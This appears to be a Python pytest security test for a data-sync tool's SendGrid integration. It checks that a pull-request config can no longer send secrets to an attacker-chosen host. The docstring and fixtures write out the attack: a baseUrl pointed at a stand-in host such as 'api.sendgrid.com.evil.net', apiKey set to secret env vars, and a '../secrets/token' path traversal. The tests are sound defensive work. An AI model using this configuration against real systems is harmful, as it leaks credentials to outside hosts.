"""Threat 1 (high): a destination file sends any secret to any host.

Destination files come through pull requests, and CI runs `syncd validate` and
`syncd plan` on them before anyone merged them. `apiKey: {env: ANY_NAME}` (or `{file:
ANY_PATH}`) with `sendgrid.baseUrl: http://attacker` used to send that variable's value
(the warehouse DSN, the admin token) as the Bearer token to that host; and the key went
with any download link whose text started like the base URL
(`https://api.sendgrid.com.evil.net`).
"""

from __future__ import annotations

import asyncio
import random
import socket
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path

import aiohttp
import pytest

from syncd.clock import SYSTEM_CLOCK
from syncd.emulator import Emulator
from syncd.metrics import Metrics
from syncd.sendgrid import RateGates, SendGridHttp
from tests.commands import syncd
from tests.corpus import list_id
from tests.reconciling.world import World, people
from tests.security.common import Recorder, env_for, write

WAREHOUSE_DSN = "postgresql://reader:CANARY-warehouse-pw@warehouse.internal:5432/marts"
ADMIN_TOKEN = "CANARY-admin-token-0f3e"
KEY = "SG.CANARYkey-origin-test.CANARYsecret-origin-test-0123456789abcdef"


KEYS = {  # what a pull request's file may name as the key, by file name
    "dsn": {"env": "WAREHOUSE_DSN"},
    "token": {"env": "SYNCD_ADMIN_TOKEN"},
    "file": {"file": "../secrets/token"},
}


def attacked(world: World, url: str, name: str) -> None:
    """The destination file a pull request brings: SendGrid is the attacker's host."""
    world.destination(
        {"vip": world.csv("vip", people(0, 5))},
        name=name,
        sendgrid={"apiKey": KEYS[name], "listId": list_id(name), "baseUrl": url},
    )


@pytest.mark.slow
async def test_plan_sends_nothing_to_a_host_named_by_a_pull_request(
    tmp_path: Path, emulator: Emulator
) -> None:
    world = World(tmp_path, emulator)
    world.ledger.close()
    write(tmp_path / "secrets" / "token", ADMIN_TOKEN)
    env = env_for(world, WAREHOUSE_DSN=WAREHOUSE_DSN, SYNCD_ADMIN_TOKEN=ADMIN_TOKEN)
    del env["SYNCD_SENDGRID_BASE_URL"]  # CI plans against SendGrid: the file's baseUrl counts
    async with Recorder() as attacker:
        for name in KEYS:
            attacked(world, attacker.url, name)
        *plans, validated = await asyncio.gather(
            *(syncd("plan", name, env=env) for name in KEYS), syncd("validate", env=env)
        )

    assert attacker.connections == 0, attacker.received
    for run in [*plans, validated]:
        assert run.code == 1, run.describe()
        assert (
            f"spec.sendgrid.baseUrl: {attacker.url} is not an allowed SendGrid URL; "
            "allowed: https://api.sendgrid.com (SYNCD_SENDGRID_BASE_URLS)"
        ) in run.text
        for canary in ("CANARY-warehouse-pw", ADMIN_TOKEN):
            assert canary not in run.text, run.describe()
    said = {
        "dsn": "apiKey.env: WAREHOUSE_DSN is not an allowed environment variable",
        "token": "apiKey.env: SYNCD_ADMIN_TOKEN is one of syncd's own settings",
        "file": "apiKey.file: ../secrets/token resolves to",
    }
    for plan, (name, refusal) in zip(plans, said.items(), strict=True):
        assert refusal in plan.err, name
        assert refusal in validated.out, name
    assert "(SYNCD_SECRET_ENV)" in plans[0].err
    assert "(SYNCD_SECRET_DIRS)" in plans[2].err


def _listening(port: int) -> socket.socket | None:
    probe = socket.socket()
    try:
        probe.bind(("127.0.0.1", port))
    except OSError:
        probe.close()
        return None
    return probe


@asynccontextmanager
async def prefixed_origins() -> AsyncIterator[tuple[Recorder, Recorder]]:
    """SendGrid on port P, and another origin on port P*10+d: its URL *starts with* the
    SendGrid base URL, as `https://api.sendgrid.com.evil.net` starts with SendGrid's."""
    rng = random.Random()
    for _ in range(200):
        port = rng.randrange(2000, 6553)
        other = port * 10 + rng.randrange(10)
        probes = [_listening(port), _listening(other)]
        for probe in probes:
            if probe is not None:
                probe.close()
        if all(probes):
            async with AsyncExitStack() as stack:
                base = await stack.enter_async_context(Recorder(port=port))
                elsewhere = await stack.enter_async_context(Recorder(port=other))
                yield base, elsewhere
            return
    raise AssertionError("no pair of free ports P and P*10+d")


async def test_the_key_never_goes_to_a_download_link_on_another_origin() -> None:
    async with prefixed_origins() as (sendgrid, elsewhere), aiohttp.ClientSession() as session:
        assert elsewhere.url.startswith(sendgrid.url)
        http = SendGridHttp(
            session,
            sendgrid.url,
            lambda: KEY,
            RateGates(SYSTEM_CLOCK).for_key("k"),
            Metrics(),
            key_hint="env SENDGRID_API_KEY",
        )
        await http.call("GET", "GET /v3/marketing/lists", "/v3/marketing/lists", tolerated=(404,))
        await http.call(
            "GET", "GET errors_url", "", url=f"{elsewhere.url}/errors.csv", tolerated=(404,)
        )
        await http.call(
            "GET", "GET errors_url", "", url=f"{sendgrid.url}/v3/errors.csv", tolerated=(404,)
        )

    assert elsewhere.connections == 1
    assert KEY.encode() not in elsewhere.received
    assert sendgrid.received.count(f"Authorization: Bearer {KEY}".encode()) == 2
